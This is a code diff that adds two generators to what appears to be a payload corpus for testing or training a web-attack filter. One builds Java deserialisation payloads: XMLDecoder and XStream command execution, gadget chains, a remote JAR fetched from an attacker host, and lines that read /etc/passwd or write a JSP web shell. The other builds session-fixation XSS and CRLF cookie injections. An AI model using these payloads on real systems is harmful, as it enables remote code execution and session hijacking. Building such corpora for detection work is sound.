@@ -1595,12 +1595,142 @@ def gen_ldap_breakout(rng: random.Random, n: int) -> list[Payload]:
         out.append(Payload("ldap", s, "gen", f"ldap:{fam}"))
     return out
 
+# ------------------------------------------------- 15. Java object graphs in XML and text (deser)
+
+_JAVA_EXEC_CLASSES = ["java.lang.ProcessBuilder", "java.lang.Runtime", "javax.script.ScriptEngineManager", "java.net.URLClassLoader",
+                      "javax.naming.InitialContext", "com.sun.rowset.JdbcRowSetImpl", "java.beans.EventHandler"]
+_CC_TRANSFORMERS = ["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections.functors.ChainedTransformer",
+                    "org.apache.commons.collections.functors.ConstantTransformer", "org.apache.commons.collections.functors.InstantiateTransformer",
+                    "org.apache.commons.collections4.functors.InvokerTransformer", "org.apache.commons.collections.map.LazyMap",
+                    "org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.beanutils.BeanComparator",
+                    "org.codehaus.groovy.runtime.MethodClosure", "org.springframework.beans.factory.ObjectFactory",
+                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "sun.reflect.annotation.AnnotationInvocationHandler",
+                    "java.util.PriorityQueue", "javax.management.BadAttributeValueExpException"]
+
+
+def _xml_args(rng: random.Random, c: str) -> list[str]:
+    parts = rng.choice([["/bin/sh", "-c", c], ["bash", "-c", c], ["cmd.exe", "/c", c], [c]])
+    return parts
+
+
+def gen_java_objects(rng: random.Random, n: int) -> list[Payload]:
+    """Java object graphs that a server deserialises and so runs: java.beans.XMLDecoder documents,
+    XStream trees (dynamic proxies over EventHandler, sorted sets), Commons Collections and
+    other gadget chains written as JSON or XML, and Java serialisation streams and exploit code
+    in the encodings clients carry them in (base64, URL-safe base64, hex)."""
+    def make(rng):
+        c = _jcmd(rng)
+        args = _xml_args(rng, c)
+        r = rng.random()
+        hint = "xml_body"
+        if r < 0.25:
+            cls = rng.choice(["java.lang.ProcessBuilder", "java.lang.Runtime", "java.lang.ProcessBuilder"])
+            items = "".join(f'<void index="{i}"><string>{a}</string></void>' for i, a in enumerate(args))
+            arr = f'<array class="java.lang.String" length="{len(args)}">{items}</array>'
+            body = (f'<object class="{cls}">{arr}<void method="start"/></object>' if cls.endswith("Builder")
+                    else f'<object class="java.lang.Runtime" method="getRuntime"><void method="exec">{arr}</void></object>')
+            if rng.random() < 0.3:
+                body = (f'<object class="java.net.URLClassLoader"><array class="java.net.URL" length="1"><void index="0"><object class="java.net.URL">'
+                        f'<string>http://{_attacker_host(rng)}/x.jar</string></object></void></array><void method="loadClass"><string>Exploit</string>'
+                        '<void method="newInstance"/></void></object>')
+            head = rng.choice(['<?xml version="1.0" encoding="UTF-8"?>', "", '<?xml version="1.0"?>'])
+            s = f'<java version="{rng.choice(["1.8.0_151", "1.7.0_21", "11", "1.8"])}" class="java.beans.XMLDecoder">{body}</java>'
+            if rng.random() >= 0.3:
+                s = head + s
+            else:
+                s = rng.choice(["<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">%s</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",
+                                "<request>%s</request>"]) % s
+            fam = "xmldecoder"
+        elif r < 0.45:
+            cmd = "".join(f"<string>{a}</string>" for a in args)
+            s = rng.choice([
+                f'<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>{cmd}</command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
+                f'<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command>{cmd}</command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>',
+                f'<contact class="dynamic-proxy"><interface>org.company.model.Contact</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>{cmd}</command></target><action>start</action></handler></contact>',
+                f'<java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size><comparator class="org.apache.commons.beanutils.BeanComparator"><property>outputProperties</property></comparator></default><int>3</int><com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl/></java.util.PriorityQueue></java.util.PriorityQueue>',
+                f'<linked-hash-set><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="java.io.SequenceInputStream"/></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></linked-hash-set>',
+            ])
+            fam = "xstream"
+        elif r < 0.65:
+            chain = rng.sample(_CC_TRANSFORMERS, rng.randint(2, 4))
+            if rng.random() < 0.5:
+                inner = ",".join(f'{{"@class":"{k}","iMethodName":"exec","iArgs":["{c}"]}}' if "Invoker" in k else f'{{"@class":"{k}"}}' for k in chain)
+                s = f'{{"{rng.choice(["transformers", "data", "payload", "object"])}":[{inner}]}}'
+                hint = "any"
+            else:
+                s = "".join(f"<{k}><iMethodName>{rng.choice(['exec', 'getMethod', 'invoke'])}</iMethodName></{k}>" for k in chain)
+                root = rng.choice(["map", "object", "payload"])
+                s = f"<{root}>{s}<string>{c}</string></{root}>"
+            fam = "gadget-chain"
+        elif r < 0.85:
+            import base64
+            code = rng.choice([f"java.lang.Runtime.getRuntime().exec(\"{c}\")", f"new java.lang.ProcessBuilder(\"{c}\").start()",
+                               f"{rng.choice(_JAVA_EXEC_CLASSES)}", f"{rng.choice(_CC_TRANSFORMERS)}", "java.lang.Runtime", "java.lang.ProcessBuilder",
+                               f"Runtime.getRuntime().exec(\"{c}\")"]).encode()
+            # Always a serialisation stream (its magic survives every encoding as `rO0AB`/`aced0005`):
+            # base64 of plain text from a random offset has no mark the filter could read undecoded.
+            raw = b"\xac\xed\x00\x05" + rng.choice([b"sr\x00", b"t\x00", b"ur\x00"]) + bytes([len(code) % 256]) + code
+            s = rng.choice([base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode().rstrip("="), raw.hex()])
+            fam = "encoded"
+            hint = rng.choice(["any", "cookie", "header"])
+        else:
+            q = rng.choice(['"', "'"])
+            s = rng.choice([f"java.lang.Runtime.getRuntime().exec({q}{c}{q})", f"new java.lang.ProcessBuilder({q}{c}{q}).start()",
+                            f"java.lang.Runtime.getRuntime().exec(new String[]{{{q}/bin/sh{q},{q}-c{q},{q}{c}{q}}})",
+                            f"Runtime.getRuntime().exec({q}{c}{q}).waitFor()", f"((java.lang.Runtime)java.lang.Runtime.getRuntime()).exec({q}{c}{q})",
+                            f"java.lang.Class.forName({q}java.lang.Runtime{q})", f"Class.forName({q}java.lang.ProcessBuilder{q}).newInstance()",
+                            f"new java.io.FileInputStream({q}/etc/passwd{q})", f"new java.io.FileOutputStream({q}/var/www/shell.jsp{q}).write(x)",
+                            f"java.lang.System.setSecurityManager(null)", f"new java.lang.ProcessBuilder(new String[]{{{q}{c}{q}}}).inheritIO().start()"])
+            fam = "java-code"
+            hint = "any"
+            return Payload("ssti", s, "gen", f"ssti:{fam}", hint)
+        return Payload("deserialization", s, "gen", f"deser-java-{fam}", hint)
+    return _collect(rng, n, make)
+
+
+# ------------------------------------------------------- 16. session fixation by injected cookies (xss)
+
+_SESSION_COOKIES = ["JSESSIONID", "PHPSESSID", "ASPSESSIONID", "ASP.NET_SessionId", "sessionid", "session_id", "sid", "connect.sid",
+                    "laravel_session", "_session_id", "CFID", "CFTOKEN", "jsessionid", "SESSION", "auth_token"]
+
+
+def gen_session_fixation(rng: random.Random, n: int) -> list[Payload]:
+    """Injected markup or script that plants a session cookie the attacker knows: `<meta
+    http-equiv="Set-Cookie">`, `document.cookie=` with path/domain/expires, written into any
+    reflected value."""
+    def make(rng):
+        name = rng.choice(_SESSION_COOKIES)
+        sid = _rs(rng, rng.choice([16, 24, 32]), "0123456789abcdefABCDEF")
+        attrs = "".join(rng.sample([f"; path=/", f"; domain=.{_trusted_domain(rng)}", f"; expires=Fri, 01 Jan 20{rng.randint(30, 99)} 00:00:00 GMT",
+                                    f"; max-age={rng.randint(86400, 9999999)}", "; SameSite=None", "; secure"], rng.randint(1, 3)))
+        q = rng.choice(['"', "'"])
+        r = rng.random()
+        if r < 0.4:
+            s = rng.choice([f'<meta http-equiv="Set-Cookie" content="{name}={sid}{attrs}">', f"<meta http-equiv=Set-Cookie content={q}{name}={sid}{attrs}{q}>",
+                            f'<META HTTP-EQUIV="SET-COOKIE" CONTENT="{name}={sid}{attrs}">', f'"><meta http-equiv="set-cookie" content="{name}={sid}{attrs}"/>'])
+            fam = "meta"
+        elif r < 0.85:
+            js = f"document.cookie={q}{name}={sid}{attrs}{q}"
+            s = rng.choice([f"<script>{js}</script>", f"<script>{js};</script>", f"{q};{js};//", f"javascript:{js}",
+                            f"<img src=x onerror={q}{js.replace(q, chr(96))}{q}>", f"\"><script>{js}</script>", f"<svg onload={js}>"])
+            fam = "document-cookie"
+        else:
+            s = rng.choice([f"%0d%0aSet-Cookie:%20{name}={sid}{attrs.replace(' ', '%20')}", f"\r\nSet-Cookie: {name}={sid}{attrs}"])
+            return Payload("crlf", s, "gen", "crlf:set-cookie", "any")
+        if rng.random() < 0.15:
+            s = _pct_some(rng, s, " <>\"'=;")
+            fam += "-urlenc"
+        return Payload("xss", s, "gen", f"xss:session-fixation-{fam}", "any")
+    return _collect(rng, n, make)
+
+
 _BASE = [
     ("shell", gen_shell, 1500), ("windows", gen_windows, 900), ("php", gen_php, 1200), ("java", gen_java, 1400),
     ("prototype_pollution", gen_prototype_pollution, 900), ("node_rce", gen_node_rce, 600), ("js_obfuscation", gen_js_obfuscation, 900),
     ("sql_dialects", gen_sql_dialects, 1500), ("sql_tamper", gen_sql_tamper, 1500), ("lfi", gen_lfi, 1500),
     ("open_redirect", gen_open_redirect, 1500), ("ssi_esi", gen_ssi_esi, 700), ("xss_evasion", gen_xss_evasion, 1200),
-    ("ldap_breakout", gen_ldap_breakout, 1500),
+    ("ldap_breakout", gen_ldap_breakout, 1500), ("java_objects", gen_java_objects, 900),
+    ("session_fixation", gen_session_fixation, 500),
 ]
 
 
